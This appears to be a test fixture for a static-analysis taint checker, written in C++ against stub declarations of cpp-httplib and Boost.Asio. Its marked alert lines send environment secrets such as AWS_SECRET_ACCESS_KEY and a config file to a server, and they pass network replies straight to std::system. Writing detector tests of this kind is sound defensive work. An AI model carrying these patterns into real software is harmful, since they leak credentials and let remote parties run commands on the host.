// taint.exfiltration with cpp-httplib and Boost.Asio: secrets and file
// contents sent as request bodies or socket writes, and network replies run
// as commands, next to constant requests. Minimal declarations of both
// libraries are written out (models match by qualified name).
#include <cstdlib>
#include <fstream>
#include <string>

namespace httplib {
struct Response { std::string body; };
struct Result {
  Response *res;
  const Response *operator->() const { return res; }
};
class Client {
public:
  explicit Client(const std::string &host);
  Result Get(const std::string &path);
  Result Post(const std::string &path, const std::string &body, const std::string &content_type);
  Result Put(const std::string &path, const std::string &body, const std::string &content_type);
};
} // namespace httplib

namespace boost { namespace asio {
struct const_buffer { const void *data; std::size_t size; };
struct mutable_buffer { void *data; std::size_t size; };
const_buffer buffer(const std::string &s);
mutable_buffer buffer(char *p, std::size_t n);
template <typename Protocol> class basic_stream_socket {
public:
  std::size_t write_some(const const_buffer &b);
  std::size_t read_some(const mutable_buffer &b);
};
struct tcp {};
template <typename Stream> std::size_t write(Stream &s, const const_buffer &b);
template <typename Stream> std::size_t read(Stream &s, const mutable_buffer &b);
}} // namespace boost::asio

using Socket = boost::asio::basic_stream_socket<boost::asio::tcp>;

bool upload_token(httplib::Client &cli)
{
    const char *tok = std::getenv("SERVICE_TOKEN");
    auto r = cli.Post("/v1/register", std::string(tok ? tok : ""), "text/plain"); // $ Alert[taint.exfiltration]
    return r.res != nullptr;
}

bool upload_config(httplib::Client &cli)
{
    std::ifstream in("/etc/app/app.conf");
    std::string text, line;
    while (std::getline(in, line))
        text += line + "\n";
    return cli.Put("/v1/config", text, "text/plain").res != nullptr; // $ Alert[taint.exfiltration]
}

int run_remote_task(httplib::Client &cli)
{
    auto r = cli.Get("/v1/task");
    return std::system(r->body.c_str()); // $ Alert[taint.cmd-injection]
}

bool ping(httplib::Client &cli)
{
    auto r = cli.Post("/v1/ping", "{}", "application/json");
    auto g = cli.Get("/v1/status");
    return r.res != nullptr && g.res != nullptr;
}

void send_secret(Socket &sock)
{
    const char *key = std::getenv("AWS_SECRET_ACCESS_KEY");
    std::string k(key ? key : "");
    boost::asio::write(sock, boost::asio::buffer(k)); // $ Alert[taint.exfiltration]
    sock.write_some(boost::asio::buffer(k)); // $ Alert[taint.exfiltration]
}

int serve_command(Socket &sock)
{
    char cmd[128] = {0};
    boost::asio::read(sock, boost::asio::buffer(cmd, sizeof(cmd) - 1));
    return std::system(cmd); // $ Alert[taint.cmd-injection]
}

int serve_once(Socket &sock)
{
    char buf[64] = {0};
    sock.read_some(boost::asio::buffer(buf, sizeof(buf) - 1));
    std::system(buf); // $ Alert[taint.cmd-injection]
    char ack[8];
    boost::asio::read(sock, boost::asio::buffer(ack, sizeof(ack)));
    sock.read_some(boost::asio::buffer(ack, sizeof(ack)));
    std::string hello("HELLO\n");
    boost::asio::write(sock, boost::asio::buffer(hello));
    sock.write_some(boost::asio::buffer(hello));
    return ack[0] == 'K';
}
